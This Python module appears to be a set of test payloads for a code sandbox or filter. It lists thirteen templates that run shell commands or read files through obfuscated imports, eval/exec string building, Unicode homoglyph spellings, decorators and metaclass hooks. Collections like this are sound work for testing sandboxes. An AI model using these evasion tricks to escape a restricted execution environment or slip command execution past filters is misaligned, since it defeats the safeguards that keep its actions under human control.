"""Direct and obfuscated calls, unicode (NFKC) spellings, decorator and class tricks."""

PAYLOADS = [
    ("direct_import_os", "direct_and_obfuscated", "run_command",
     "import os\nos.system(@C@)"),
    ("dunder_import", "direct_and_obfuscated", "run_command",
     "__import__('os').system(@C@)"),
    ("eval_concat", "direct_and_obfuscated", "run_command",
     "eval('__imp' + 'ort__(\"os\").system(' + repr(@C@) + ')')"),
    ("open_direct", "direct_and_obfuscated", "read_file",
     "pwned = open(@S@).read()"),
    ("builtins_getattr_concat", "direct_and_obfuscated", "read_file",
     "b = __builtins__\no = b.get('op' + 'en') if isinstance(b, dict) else getattr(b, 'op' + 'en')\n"
     "pwned = o(@S@).read()"),
    ("exec_subprocess", "direct_and_obfuscated", "run_command",
     "exec('import subprocess; subprocess.run(' + repr(@C@) + ', shell=True)')"),
    ("nfkc_dunder_import", "unicode_nfkc", "run_command",
     "__\U0001d62a\U0001d62e\U0001d631\U0001d630\U0001d633\U0001d635__('os').system(@C@)"),
    ("nfkc_fullwidth_open", "unicode_nfkc", "read_file",
     "pwned = \uff4f\uff50\uff45\uff4e(@S@).read()"),
    ("nfkc_import_name", "unicode_nfkc", "run_command",
     "import \uff4f\uff53\n\uff4f\uff53.system(@C@)"),
    ("decorator_lambda", "decorator_class_tricks", "run_command",
     "@lambda f: __import__('os').system(@C@)\ndef f():\n    pass"),
    ("metaclass_new", "decorator_class_tricks", "run_command",
     "class M(type):\n    def __new__(m, n, b, d):\n        __import__('os').system(@C@)\n"
     "        return super().__new__(m, n, b, d)\nclass X(metaclass=M):\n    pass"),
    ("init_subclass", "decorator_class_tricks", "run_command",
     "class X:\n    def __init_subclass__(cls):\n        __import__('os').system(@C@)\n"
     "class Y(X):\n    pass"),
    ("class_getitem_open", "decorator_class_tricks", "read_file",
     "class P:\n    def __class_getitem__(cls, k):\n        return open(k).read()\npwned = P[@S@]"),
]
